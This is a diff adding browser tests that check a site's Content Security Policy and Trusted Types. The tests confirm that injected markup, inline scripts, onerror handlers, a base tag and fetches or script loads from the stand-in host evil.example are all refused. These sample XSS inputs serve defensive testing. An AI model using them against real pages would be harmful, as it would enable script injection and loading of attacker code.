@@ -1,0 +1,84 @@
+// The content policy as a browser enforces it. That the policy refuses nothing of the site's own, every other browser
+// test proves: a refusal is a console line, which fails the test.
+import { expect, open, openPageWith, test } from './fixtures.ts'
+
+test('what somebody writes into a page with a form does not run, draw or call out', async ({ page, noise }) => {
+  noise.expect(/Content Security Policy/, /evil\.example/)
+  await openPageWith(page, 'a form')
+  const result = await page.evaluate(async () => {
+    const script = document.createElement('script')
+    script.textContent = 'window.injected = true'
+    document.body.append(script)
+    const holder = document.createElement('div')
+    holder.innerHTML = `<img src="/no-picture" onerror="window.injected = true">
+      <p id="drawn" style="position: fixed">x</p><base href="https://evil.example/">`
+    const broken = new Promise((done) => holder.querySelector('img')?.addEventListener('error', done))
+    document.body.append(holder)
+    const calledOut = await fetch('https://evil.example/').then(
+      () => true,
+      () => false,
+    )
+    await broken
+    return {
+      injected: 'injected' in window,
+      calledOut,
+      position: getComputedStyle(document.getElementById('drawn') ?? document.body).position,
+      base: document.baseURI.includes('evil'),
+    }
+  })
+  expect(result).toEqual({ injected: false, calledOut: false, position: 'static', base: false })
+})
+
+test('on a page without a form no text becomes markup or code, and no script comes from elsewhere', async ({
+  page,
+  noise,
+}) => {
+  noise.expect(/Trusted ?(?:HTML|Script|Type)/)
+  await openPageWith(page, 'no form')
+  const accepted = await page.evaluate(() => {
+    const script = () => document.createElement('script')
+    const policies = (
+      window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }
+    ).trustedTypes
+    const attempts: Record<string, () => unknown> = {
+      'markup by innerHTML': () => (document.createElement('div').innerHTML = '<img src="/x" onerror="x()">'),
+      'markup by insertAdjacentHTML': () => document.body.insertAdjacentHTML('beforeend', '<p>x</p>'),
+      'markup by DOMParser': () => new DOMParser().parseFromString('<p>x</p>', 'text/html'),
+      'markup in a frame': () => (document.createElement('iframe').srcdoc = '<p>x</p>'),
+      'a handler': () => document.body.setAttribute('onclick', 'x()'),
+      'inline code': () => (script().textContent = 'x()'),
+      'code from elsewhere': () => (script().src = 'https://evil.example/x.js'),
+      'another policy': () => policies.createPolicy('mine', {}),
+      'a second default policy': () => policies.createPolicy('default', {}),
+      'a file of the site': () => (script().src = '/assets/x.js'),
+    }
+    return Object.keys(attempts).filter((attempt) => {
+      try {
+        attempts[attempt]?.()
+        return true
+      } catch {
+        return false
+      }
+    })
+  })
+  expect(accepted).toEqual(['a file of the site'])
+})
+
+test('no page can be framed, and none can be reached by its opener', async ({ request }) => {
+  const headers = (await request.get('/')).headers()
+  expect(headers['content-security-policy']).toContain("frame-ancestors 'none'")
+  expect(headers['x-frame-options']).toBe('DENY')
+  expect(headers['cross-origin-opener-policy']).toBe('same-origin-allow-popups')
+})
+
+test('pictures have their ground colour before they arrive, under the policy', async ({ page }) => {
+  await page.route(/\.(?:avif|webp)$/, () => undefined)
+  await open(page, '/')
+  const colours = await page.evaluate(() =>
+    [...document.querySelectorAll('main picture')].map(
+      ({ parentElement }) => parentElement && getComputedStyle(parentElement).backgroundColor,
+    ),
+  )
+  expect(colours.length).toBeGreaterThan(0)
+  expect(colours.filter((colour) => colour === 'rgba(0, 0, 0, 0)')).toEqual([])
+})
